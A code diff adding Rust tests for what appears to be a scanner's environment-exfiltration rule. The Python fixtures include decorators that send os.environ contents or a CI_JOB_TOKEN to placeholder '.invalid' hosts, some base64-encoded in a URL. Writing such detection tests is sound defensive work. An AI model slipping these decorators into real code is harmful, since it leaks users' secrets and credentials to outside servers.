@@ -214,3 +214,115 @@ fn a_flow_inside_one_file_is_reported_once() {
         .count();
     assert_eq!(n, 1, "{:#?}", s.findings);
 }
+
+/// A decorator that sends what the function it wraps returns, in a module of its own.
+const TELE: &str = r#"import base64, requests
+def report(fn):
+    def wrapper(*a, **kw):
+        r = fn(*a, **kw)
+        requests.post("https://collector.invalid/r", data=r, timeout=3)
+        return r
+    return wrapper
+
+def telemetry(url):
+    def deco(fn):
+        def wrapper():
+            out = fn()
+            requests.get(url + base64.b64encode(str(out).encode()).decode())
+            return out
+        return wrapper
+    return deco
+
+def timed(fn):
+    def wrapper(*a):
+        r = fn(*a)
+        requests.post("https://metrics.invalid/", json={"ok": True})
+        return r
+    return wrapper
+"#;
+
+fn m1s(scan: &ArchiveScan) -> Vec<&Finding> {
+    scan.findings
+        .iter()
+        .filter(|f| f.rule == Rule::EnvExfiltration)
+        .collect()
+}
+
+#[test]
+fn a_decorator_imported_from_another_module_that_sends_the_environment_is_m1() {
+    // By name, imported by name.
+    let s = scan(&[
+        ("evmod/tele.py", TELE),
+        (
+            "evmod/__init__.py",
+            "import os\nfrom .tele import report\n\n@report\ndef collect():\n    return dict(os.environ)\n",
+        ),
+    ]);
+    let f = m1s(&s);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!(
+        (
+            f[0].severity,
+            f[0].path.as_str(),
+            f[0].line,
+            f[0].snippet.as_str()
+        ),
+        (Severity::High, "evmod/__init__.py", Some(4), "@report")
+    );
+    assert!(f[0].message.contains("evmod.tele.report"), "{f:#?}");
+    // A factory called through its module, with one named value: medium.
+    let s = scan(&[
+        ("evmod/tele.py", TELE),
+        (
+            "evmod/__init__.py",
+            "import os\nfrom evmod import tele\n\n@tele.telemetry('https://t.invalid/?d=')\ndef token():\n    return os.environ.get('CI_JOB_TOKEN')\n",
+        ),
+    ]);
+    let f = m1s(&s);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!((f[0].severity, f[0].line), (Severity::Medium, Some(4)));
+}
+
+#[test]
+fn a_decorated_function_returning_another_module_s_environment_is_m1() {
+    // The decorator is the file's own; what the function returns comes from `a.py`.
+    let s = scan(&[
+        ("evmod/a.py", A),
+        (
+            "evmod/__init__.py",
+            "import requests\nfrom .a import collect\ndef report(fn):\n    requests.post('https://x.invalid/', data=fn())\n    return fn\n\n@report\ndef gather():\n    return collect()\n",
+        ),
+    ]);
+    let f = m1s(&s);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!((f[0].severity, f[0].line), (Severity::High, Some(7)));
+    // Both in other modules: the decorator in `tele.py`, the environment in `a.py`.
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/tele.py", TELE),
+        (
+            "evmod/__init__.py",
+            "from .a import collect\nfrom .tele import report\n@report\ndef gather():\n    return collect()\n",
+        ),
+    ]);
+    assert_eq!(m1s(&s).len(), 1, "{:#?}", s.findings);
+}
+
+#[test]
+fn imported_decorators_that_send_other_things_or_wrap_no_environment_are_quiet() {
+    let s = scan(&[
+        ("evmod/tele.py", TELE),
+        (
+            "evmod/__init__.py",
+            "import os\nfrom .tele import timed, report, telemetry\n\n@timed\ndef home():\n    return os.environ.get('HOME')\n\n@report\ndef compute(x):\n    return x * 2\n\n@telemetry\ndef wrong_form():\n    return dict(os.environ)\n",
+        ),
+    ]);
+    // `@telemetry` used by name makes a decorator that sends nothing: not M1 either.
+    assert!(m1s(&s).is_empty(), "{:#?}", s.findings);
+    // A decorator of the same name in a module that is not the package's own is not followed.
+    let s = scan(&[(
+        "evmod/__init__.py",
+        "import os\nfrom otherlib.tele import report\n@report\ndef collect():\n    return dict(os.environ)\n",
+    )]);
+    assert!(m1s(&s).is_empty(), "{:#?}", s.findings);
+}
